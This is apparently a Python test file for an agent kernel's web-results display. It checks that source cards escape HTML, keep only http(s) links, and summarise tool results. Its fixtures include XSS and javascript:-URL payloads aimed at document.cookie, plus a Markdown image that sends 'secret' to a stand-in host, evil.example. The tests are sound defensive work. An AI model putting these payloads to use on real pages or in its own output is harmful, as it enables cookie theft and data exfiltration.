"""The web's cards and sources as a cell shows them: escaped, http(s) links only."""

from __future__ import annotations

from agent_kernel.display.web import result_summary, sources_bundle
from agent_kernel.testing import tool_search, web_fetch, web_search


def test_sources_are_escaped_links_and_only_http():
    bundle = sources_bundle(
        [
            {"url": "https://duckdb.org/news?a=1&b=2", "title": "News <img src=x onerror=alert(1)>"},
            {"url": "javascript:alert(document.cookie)", "title": "Click me"},
            {"url": 'https://example.org/"><script>x</script>', "title": "![t](https://evil.example/?q=secret)"},
        ]
    )
    markup = bundle["text/html"]
    assert '<a href="https://duckdb.org/news?a=1&amp;b=2" rel="noopener noreferrer">' in markup
    assert "News &lt;img src=x onerror=alert(1)&gt;" in markup
    assert "<img" not in markup and "<script" not in markup and "javascript:" not in markup
    assert 'src="https://evil.example' not in markup  # a Markdown image in a title stays text
    assert bundle["text/plain"].splitlines()[:2] == [
        "Sources:",
        "1. News <img src=x onerror=alert(1)> <https://duckdb.org/news?a=1&b=2>",
    ]


def test_result_summaries():
    assert result_summary(web_search("q", [("https://a.example", "A")])[1]) == ("ok", "1 result")
    assert result_summary(web_search("q", [])[1]) == ("ok", "0 results")
    assert result_summary(web_search("q", error="too_many_requests")[1]) == (
        "error",
        "the API reported too_many_requests",
    )
    assert result_summary(web_fetch("https://a.example", "text", title="A page")[1]) == ("ok", "fetched: A page")
    assert result_summary(web_fetch("https://a.example", error="url_not_accessible")[1])[0] == "error"
    found = tool_search("schedule", found=["create_scheduled_task", "set_reminder"])[1]
    assert result_summary(found) == ("ok", "found create_scheduled_task, set_reminder")
    assert result_summary(tool_search("nothing", found=[])[1]) == ("ok", "found no tool")
